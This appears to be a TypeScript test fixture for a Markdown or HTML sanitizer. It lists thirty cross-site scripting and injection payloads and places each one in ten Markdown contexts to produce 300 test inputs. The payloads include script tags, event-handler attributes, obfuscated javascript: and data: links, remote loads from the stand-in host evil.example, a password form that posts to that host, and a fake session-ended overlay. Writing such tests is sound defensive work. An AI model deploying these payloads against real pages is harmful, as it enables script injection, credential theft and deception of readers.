/** Texts that try to run `taken()` in a reader's browser, to fetch from `evil.example`, or to change the page around the text. */
const attacks: readonly string[] = [
  "<script>taken()</script>",
  '<script src="//evil.example/x.js"></script>',
  "<img src=x onerror=taken()>",
  '<img/src="x"/onerror="taken()"/>',
  '<svg onload="taken()"><animate onbegin=taken() attributeName=x dur=1s>',
  '<svg><use href="//evil.example/x.svg#a"></use></svg>',
  '<iframe srcdoc="<script>parent.taken()</script>"></iframe>',
  "<iframe src=javascript:parent.taken()></iframe>",
  '<object data="//evil.example/x.html"></object><embed src="//evil.example/x.swf">',
  '<link rel=stylesheet href="//evil.example/x.css"><style>@import "//evil.example/y.css";</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/"><base href="//evil.example/">',
  '<form action="//evil.example/"><input name=password autofocus onfocus=taken()><button formaction=javascript:taken()>Send',
  "<details open ontoggle=taken()><summary>More</summary></details>",
  '<video src="//evil.example/x.mp4" poster="//evil.example/x.png"><source onerror=taken() src=x>',
  '<math><mtext><a xlink:href="javascript:taken()">x</a></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=taken()>">',
  '<div style="position:fixed;inset:0;background:url(//evil.example/x.png)">Your session has ended</div>',
  "<!--><img src=x onerror=taken()>--> <![CDATA[<img src=x onerror=taken()>]]> <?php taken() ?>",
  "[x](javascript:taken()) [x](  javascript:taken()  ) [x](java\tscript:taken())",
  "[x](JaVaScRiPt:taken()) [x](&#106;&#97;vascript:taken()) [x](javascript&colon;taken()) [x](\\u006aavascript:taken())",
  "[x](vbscript:taken()) [x](data:text/html,<script>parent.taken()</script>) [x](blob:https://evil.example/1) [x](file:///etc/passwd)",
  "<javascript:taken()> <data:text/html;base64,PHNjcmlwdD50YWtlbigpPC9zY3JpcHQ+>",
  '[x](https://evil.example/ "\\" onmouseover=\\"taken()\\" style=\\"position:fixed") [x](//evil.example/)',
  "[x][one]\n\n[one]: javascript:taken()\n",
  "![x](https://evil.example/x.png) ![x](//evil.example/x.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRha2VuKCkiLz4=)",
  '![x](x" onerror="taken()) ![" onerror="taken()](https://evil.example/y.png) ![x][two]\n\n[two]: https://evil.example/z.png\n',
  '```"><img src=x onerror=taken()>\n</code></pre><img src=x onerror=taken()>\n```\n',
  "`<img src=x onerror=taken()>` ``</code><script>taken()</script>``",
  "x[^1]\n\n[^1]: <img src=x onerror=taken()> [y](javascript:taken())\n",
  "https://evil.example/<img/src=x/onerror=taken()> www.evil.example\u202e&lt;script&gt;taken()&lt;/script&gt;",
];

/** Surroundings of an attack; `text` may have several lines. */
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/^/gm, "> "),
  (text) => text.replace(/^/gm, "  ").replace(/^ {2}/, "- "),
  (text) => `| a | b |\n| - | - |\n| ${text.replace(/\n+/g, " ")} | c |`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `[${text}](https://safe.example/)`,
  (text) => `<details>\n\n${text}\n\n</details>`,
  (text) => `An open \` and *${text}`,
  (text) => `1. [ ] ${text}\n\n<div>\n${text}`,
];

/** Three hundred attacks: each at every place. Each ends with words of its own, by which it is found. */
export const attackTexts: readonly string[] = attacks.flatMap((attack, n) =>
  places.map((place, at) => `${place(attack)}\n\nthe end of ${n}-${at}`),
);
